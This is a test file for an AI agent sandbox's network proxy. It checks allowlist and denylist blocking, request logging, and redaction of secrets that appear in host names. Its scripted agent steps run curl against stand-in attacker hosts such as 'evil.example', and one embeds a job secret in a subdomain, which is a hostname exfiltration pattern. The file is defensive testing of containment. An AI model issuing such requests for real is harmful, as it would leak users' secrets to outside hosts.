import { once } from "node:events";
import { createServer } from "node:http";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { Config } from "../../src/config.ts";
import type { Task } from "../../src/handoff/task.ts";
import { call, type Step } from "../emulators/model/step.ts";
import { portOf } from "../sandbox/room.ts";
import { finish } from "../stories/road.ts";
import { solved } from "./solved.ts";

let port: number;
const asked: string[] = [];
const site = createServer((request, response) => {
  asked.push(`${request.method} ${request.url}`);
  response.end("hello from outside\n");
});
beforeAll(async () => {
  site.listen(0, "127.0.0.1");
  await once(site, "listening");
  port = portOf(site);
});
afterAll(() => void site.close());

const opened =
  (allow: string[], deny: string[] = []) =>
  (task: Task): Task => ({
    ...task,
    config: { ...task.config, network: Config.parse({ network: { solve: { allow, deny } } }).network },
  });
/** The host's loopback is asked through the proxy only when no exception stands in the way. */
const fetches = (...urls: string[]): Step[] => [
  call("shell", {
    command: ["curl", "-sS", "--noproxy", "", "--max-time", "20", ...urls],
    workdir: null,
    timeout_s: null,
  }),
  finish("Looked."),
];

describe("a host that the trusted configuration opens for the agent", () => {
  test("is reached by its commands, and the Solution and the log say what was asked, without paths", async () => {
    asked.length = 0;
    const urls = [
      `http://127.0.0.1:${port}/private?q=1`,
      `http://127.0.0.1:${port}/again`,
      "https://evil.example/path",
    ];
    const { solution, events, session } = await solved(fetches(...urls), {
      task: opened([`127.0.0.1:${port}`]),
    });
    expect(asked).toEqual(["GET /private?q=1", "GET /again"]);
    const evil = { host: "evil.example", port: 443, method: "CONNECT", allowed: false, reason: "blocked-by-allowlist" };
    const reached = { host: "127.0.0.1", port, method: "GET", allowed: true, reason: "allowed" };
    expect(solution.network).toEqual([
      { ...reached, count: 2 },
      { ...evil, count: 1 },
    ]);
    expect(events.filter(({ event }) => event === "network.asked")).toEqual([
      { event: "network.asked", ...reached },
      { event: "network.asked", ...evil },
    ]);
    expect(session).toContain("blocked: evil.example:443 (blocked-by-allowlist)");
  });

  test("stands in the Solution beside what the installation asked for, and no value of this job in either", async () => {
    const row = { port: 443, method: "CONNECT", allowed: false, reason: "blocked-by-allowlist", count: 1 };
    const prepared = ["evil.example", "plum-cake.evil.example"].map((host) => ({
      ...row,
      host,
      where: "prepare" as const,
    }));
    const { solution } = await solved([finish("Looked.")], { prepared, known: ["Plum-Cake"] });
    expect(solution.network).toEqual([prepared[0], { ...prepared[1], host: "a name that holds a secret" }]);
  });

  test("the twin: nothing is opened, nothing is reached, and there is nothing to tell", async () => {
    asked.length = 0;
    const { solution, events } = await solved(fetches(`http://127.0.0.1:${port}/`));
    expect(asked).toEqual([]);
    expect(solution.network).toEqual([]);
    expect(events.map(({ event }) => event)).not.toContain("network.asked");
  });

  test("is not reached when the deny list names it", async () => {
    asked.length = 0;
    const { solution } = await solved(fetches(`http://127.0.0.1:${port}/`), {
      task: opened([`127.0.0.1:${port}`], ["127.0.0.1"]),
    });
    expect(asked).toEqual([]);
    expect(solution.network).toMatchObject([{ host: "127.0.0.1", reason: "blocked-by-denylist" }]);
  });

  test("a value of this job in a name is not in the paper", async () => {
    const { solution } = await solved(fetches("http://plum-cake.evil.example/"), {
      task: opened(["a.example"]),
      known: ["plum-cake"],
    });
    expect(JSON.stringify(solution)).not.toContain("plum-cake");
    expect(solution.network).toMatchObject([{ host: "a name that holds a secret", allowed: false }]);
  });
});
